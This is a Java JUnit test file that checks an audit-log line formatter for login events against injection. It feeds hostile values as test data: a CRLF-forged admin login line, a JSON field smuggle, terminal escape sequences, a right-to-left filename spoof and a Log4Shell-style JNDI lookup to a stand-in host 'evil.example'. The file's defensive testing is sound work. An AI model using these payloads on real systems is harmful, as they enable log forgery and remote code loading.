// SPDX-License-Identifier: Apache-2.0
package org.jwtfilter.login.audit;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.io.StringReader;
import java.time.Instant;
import java.util.Arrays;
import java.util.HashSet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

class AuditLineTest {
    private static final Instant TIME = Instant.parse("2027-01-31T08:15:00Z");

    @Test
    void saysWhenWhatAndWho() {
        assertThat(AuditLine.of(
                        TIME,
                        AuditEvent.of(AuditType.LOGIN_REFUSED)
                                .with(AuditField.REASON, "wrong-credentials")
                                .with(AuditField.SOURCE, "192.0.2.1")
                                .with(AuditField.USER, "alice")))
                .isEqualTo(
                        "{\"time\":\"2027-01-31T08:15:00.000Z\",\"event\":\"login.refused\",\"user\":\"alice\",\"source\":\"192.0.2.1\",\"reason\":\"wrong-credentials\"}");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\r\n{\"event\":\"login\",\"user\":\"admin\"}",
                "a\",\"event\":\"login",
                "\u001b[2J\u001b]0;owned\u0007",
                "\u009b31m",
                "${jndi:ldap://evil.example/a}",
                "a\u2028b\u2029c\u0085d",
                "\u202egnp.exe",
                "back\\slash \u0000 \u007f \ud83d\ude00 \ud800",
                "jos\u00e9"
            })
    void isOneLineOfPrintableAsciiWhateverWasSent(String sent) {
        String line = AuditLine.of(TIME, AuditEvent.of(AuditType.LOGIN_REFUSED).with(AuditField.USER, sent));

        assertThat(line).matches("[\\x20-\\x7e]+").doesNotContain("$");
        JsonObject read = Json.createReader(new StringReader(line)).readObject();
        assertThat(read.keySet()).containsExactlyInAnyOrder("time", "event", "user");
        assertThat(read.getString("event")).isEqualTo("login.refused");
        assertThat(read.getString("user")).isEqualTo(sent);
    }

    @ParameterizedTest
    @EnumSource
    void isOneLineWhateverTheEventAndTheField(AuditType type) {
        AuditEvent event = AuditEvent.of(type);
        for (AuditField field : AuditField.values()) {
            event = event.with(field, "a\r\n" + field);
        }
        String line = AuditLine.of(TIME, event);

        assertThat(line).matches("[\\x20-\\x7e]+");
        JsonObject read = Json.createReader(new StringReader(line)).readObject();
        assertThat(read.getString("event")).isEqualTo(type.code());
        assertThat(read).hasSize(2 + AuditField.values().length);
    }

    @Test
    void boundsEveryValue() {
        for (int length : new int[] {AuditLine.MAX_VALUE - 1, AuditLine.MAX_VALUE}) {
            assertThat(user("x".repeat(length))).isEqualTo("x".repeat(length));
        }
        assertThat(user("x".repeat(AuditLine.MAX_VALUE + 1))).isEqualTo("x".repeat(AuditLine.MAX_VALUE) + "...");
    }

    @Test
    void givesEveryEventAndFieldItsOwnWord() {
        assertThat(new HashSet<>(
                        Arrays.stream(AuditType.values()).map(AuditType::code).toList()))
                .hasSameSizeAs(AuditType.values());
        assertThat(new HashSet<>(Arrays.stream(AuditField.values())
                        .map(AuditField::member)
                        .toList()))
                .hasSameSizeAs(AuditField.values())
                .doesNotContain("time", "event");
    }

    private static String user(String name) {
        String line = AuditLine.of(TIME, AuditEvent.of(AuditType.LOGIN).with(AuditField.USER, name));
        return Json.createReader(new StringReader(line)).readObject().getString("user");
    }
}
